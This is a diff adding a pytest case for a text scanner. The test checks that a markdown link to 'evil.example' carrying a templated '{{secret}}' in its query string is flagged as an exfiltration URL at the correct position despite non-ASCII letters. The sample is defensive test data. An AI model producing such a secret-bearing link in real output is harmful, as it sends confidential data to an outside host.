@@ -84,3 +84,9 @@ def test_refuses_what_is_no_host() -> None:
         make((("allow", ("https://docs.example.com/",)),))
     with pytest.raises(ValueError, match="no setting 'deny'"):
         make((("deny", ("a",)),))
+
+
+def test_positions_are_those_of_the_text_whatever_its_letters() -> None:
+    text = "Übersicht \U0001f600: [Größe](https://evil.example/?q=größe&x={{secret}}) ende"
+    found = {(f.kind, text[f.start : f.end]) for f in scan(text)}
+    assert ("urls.exfiltration", "https://evil.example/?q=größe&x={{secret}}") in found
